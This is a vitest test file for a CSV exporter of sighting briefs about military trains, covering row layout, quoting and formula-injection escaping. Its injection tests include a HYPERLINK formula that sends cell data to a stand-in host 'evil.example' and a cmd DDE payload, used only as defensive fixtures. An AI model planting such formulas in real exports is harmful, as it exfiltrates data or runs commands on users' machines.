import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseFeed } from '../sighting/parse-feed';
import { annotationFor, buildInput } from './brief-test-fixtures';
import { buildBrief } from './build-brief';
import { briefToCsv, CSV_COLUMNS, numberCell, textCell } from './export-csv';

function rowsOf(csv: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function hostileBrief(caption: string, note: string, lon = 29.25) {
  const feed = parseFeed({
    type: 'FeatureCollection',
    features: [{ type: 'Feature', id: 'h-1', geometry: { type: 'Point', coordinates: [lon, 52.05] }, properties: { source: { caption } } }],
  });
  if (!feed.ok) throw new Error(feed.error.message);
  return buildBrief(buildInput({ sightings: feed.sightings, annotations: [annotationFor('h-1', { note })], distances: new Map() }));
}

describe('briefToCsv layout', () => {
  const csv = briefToCsv(buildBrief(buildInput()));

  it('starts with a UTF-8 byte order mark and the header row', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
  });

  it('ends every row with CRLF and has one row per sighting', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(false);
    expect(csv.split('\r\n').length - 2).toBe(3);
  });

  it('flattens a corrected, annotated sighting into its columns', () => {
    expect(rowsOf(csv)[0]).toEqual({
      id: 'tt-1',
      lat: '52.1',
      lon: '29.3',
      original_lat: '52.05',
      original_lon: '29.25',
      observed_at: '2022-01-18T09:30:00Z',
      posted_at: '2022-01-18T11:00:00Z',
      place: 'Kalinkavichy',
      status: 'confirmed',
      analyst_status: 'confirmed',
      feed_status: 'geolocated',
      equipment: 'tank (T-80BV):12',
      locomotive: '',
      wagons: '30',
      platform: 'tiktok',
      url: 'https://www.tiktok.com/@ivan_rail/video/7054',
      archived_url: 'https://archive.ph/abc12',
      author: 'ivan_rail',
      caption: 'Эшелон с танками, снял @ivan_rail',
      hashtags: '#военныйэшелон',
      note: 'Same train as @ivan_rail filmed on the 17th; the yard matches.',
      tags: 'armour; kalinkavichy',
      pinned: 'true',
      border_km: '63.2',
      border_mi: '39.3',
      feeds: 'Sample feed; GeoConfirmed export',
    });
  });

  it('uses derived equipment and locomotive when the feed gave none', () => {
    expect(rowsOf(csv)[1]).toMatchObject({ equipment: 'apc-ifv', locomotive: 'VL10', analyst_status: '', pinned: 'false' });
  });

  it('leaves the border reference feature out', () => {
    expect(rowsOf(briefToCsv(buildBrief(buildInput({ includeBorder: [[23.6, 51.5], [31.7, 52.1]] }))))).toHaveLength(3);
  });
});

describe('CSV quoting', () => {
  it('quotes cells with quotes, commas, semicolons, line breaks or edge spaces', () => {
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('a,b')).toBe('"a,b"');
    expect(textCell('a;b')).toBe('"a;b"');
    expect(textCell('a\r\nb')).toBe('"a\r\nb"');
    expect(textCell('a\nb')).toBe('"a\nb"');
    expect(textCell(' padded')).toBe('" padded"');
    expect(textCell('padded ')).toBe('"padded "');
    expect(textCell('plain text')).toBe('plain text');
  });

  it('brings hostile text back unchanged through a CSV parser', () => {
    const caption = 'He said "go", then; left\r\nline two ';
    const note = 'note, with "quotes"\nand a second line';
    const row = rowsOf(briefToCsv(hostileBrief(caption, note)))[0];
    expect(row?.caption).toBe(caption);
    expect(row?.note).toBe(note);
  });
});

describe('CSV formula injection', () => {
  it('prefixes text starting with =, +, -, @, tab or CR with an apostrophe', () => {
    expect(textCell('=HYPERLINK("http://evil.example/?"&A1)')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1)"');
    expect(textCell('+7 tanks')).toBe("'+7 tanks");
    expect(textCell('-2+3')).toBe("'-2+3");
    expect(textCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(textCell('\t=1')).toBe("'\t=1");
    expect(textCell('\r=1')).toBe('"\'\r=1"');
  });

  it('guards captions and notes in the whole export', () => {
    const row = rowsOf(briefToCsv(hostileBrief("=cmd|' /C calc'!A0", '@evil')))[0];
    expect(row?.caption).toBe("'=cmd|' /C calc'!A0");
    expect(row?.note).toBe("'@evil");
  });

  it('keeps negative numbers in numeric columns as numbers', () => {
    expect(numberCell(-12.5)).toBe('-12.5');
    expect(rowsOf(briefToCsv(hostileBrief('west of Greenwich', '', -12.5))).at(0)?.lon).toBe('-12.5');
  });
});
